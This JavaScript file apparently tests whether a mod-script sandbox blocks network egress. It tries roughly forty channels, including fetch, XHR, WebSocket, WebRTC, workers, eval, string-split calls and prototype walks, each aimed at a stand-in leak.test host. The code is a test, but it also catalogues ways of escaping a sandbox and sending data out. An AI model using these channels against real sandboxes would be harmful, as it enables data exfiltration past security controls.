// Every way a worker could tell somebody something, each under a name of its own: `attempt(port, udp)` tries them all.
// The same text runs in a mod's script, where nothing may be heard, and in a worker without any policy, where it must be.
function attempt(web, udp) {
  const heard = [];
  const address = (name) => `http://${name}.leak.test:${web}/${name}`;
  const every = globalThis;
  const from = (text) => every["Blob"] && URL["createObjectURL"](new every["Blob"]([text], { type: "text/javascript" }));
  const ways = {
    fetch: (url) => every.fetch(url),
    "fetch-opaque": (url) => every["fe" + "tch"](url, { mode: "no-cors", method: "POST", body: "x" }),
    "fetch-keepalive": (url) => fetch(url, { keepalive: true, mode: "no-cors" }),
    "fetch-later": (url) => fetchLater(url, { activateAfter: 0 }),
    "fetch-prototype": (url) => Object.getPrototypeOf(Object.getPrototypeOf(every)).fetch.call(every, url),
    xhr: (url) => new Promise((done, fail) => {
      const ask = new XMLHttpRequest();
      ask.onload = done;
      ask.onerror = fail;
      ask.open("GET", url);
      ask.send();
    }),
    "xhr-sync": (url) => {
      const ask = new XMLHttpRequest();
      ask.open("GET", url, false);
      ask.send();
    },
    websocket: (url) => new Promise((done) => {
      const socket = new WebSocket(url.replace("http", "ws"));
      socket.onerror = socket.onopen = done;
    }),
    eventsource: (url) => new Promise((done) => {
      const source = new EventSource(url);
      source.onerror = source.onopen = () => (source.close(), done());
    }),
    webtransport: (url) => new WebTransport(url.replace("http", "https")).ready,
    "import-scripts": (url) => importScripts(url),
    import: (url) => import(url),
    worker: (url) => new Worker(url),
    "worker-nested": (url) => new Promise((done) => {
      const nested = new Worker(from(`fetch(${JSON.stringify(url)}, {mode: "no-cors"}).finally(() => postMessage(1))`));
      nested.onmessage = nested.onerror = done;
    }),
    "worker-data": (url) => new Worker(`data:text/javascript,importScripts(${JSON.stringify(url)})`),
    "worker-shared": (url) => new SharedWorker(url),
    caches: (url) => caches.open("x").then((cache) => cache.add(url)),
    beacon: (url) => navigator.sendBeacon(url, "x"),
    "service-worker": (url) => navigator.serviceWorker.register(url),
    rtc: () => new RTCPeerConnection({ iceServers: [{ urls: `stun:rtc.leak.test:${udp}` }] }).createDataChannel("x"),
    font: (url) => new FontFace("x", `url(${url})`).load(),
    image: (url) => void (new Image().src = url),
    navigate: (url) => void (location.href = url),
    "navigate-assign": (url) => void (self.location = url),
    open: (url) => open(url),
    "code-eval": (url) => eval(`fetch(${JSON.stringify(url)})`),
    "code-function": (url) => Function("u", "return fetch(u)")(url),
    "code-constructor": (url) => (async () => 1).constructor("u", "return fetch(u)")(url),
    "code-timer": (url) => new Promise((done) => {
      setTimeout(`fetch(${JSON.stringify(url)})`);
      setTimeout(done, 50);
    }),
    "code-wasm": (url) => WebAssembly.instantiateStreaming(fetch(url)),
    "response-stream": (url) => new Response(fetch(url)).text(),
    "channel-page": () => new BroadcastChannel("leak").postMessage("x"),
    "storage-idb": () => indexedDB.open("leak"),
    "message-supervisor": (url) => postMessage({ type: "start", source: `fetch(${JSON.stringify(url)})`, config: {} }),
    "message-event": () => dispatchEvent(new MessageEvent("message", { data: "beat" })),
    "constructor-walk": (url) => {
      for (let at = every; at; at = Object.getPrototypeOf(at)) {
        for (const key of Reflect.ownKeys(at)) {
          const descriptor = Reflect.getOwnPropertyDescriptor(at, key);
          const found = descriptor.value ?? (descriptor.get && Reflect.apply(descriptor.get, every, []));
          if (/fetch|request|beacon|socket/i.test(String(key)) && typeof found === "function") Reflect.apply(found, every, [url]);
        }
      }
    },
  };
  const patience = (work) => Promise.race([work, new Promise((done) => setTimeout(done, 400))]);
  return (async () => {
    for (const [name, way] of Object.entries(ways)) {
      try {
        await patience(way(address(name)));
        heard.push(name);
      } catch {
        // Refused here; whether anything was heard, the collectors say.
      }
    }
    await new Promise((done) => setTimeout(done, 500));
    return heard;
  })();
}
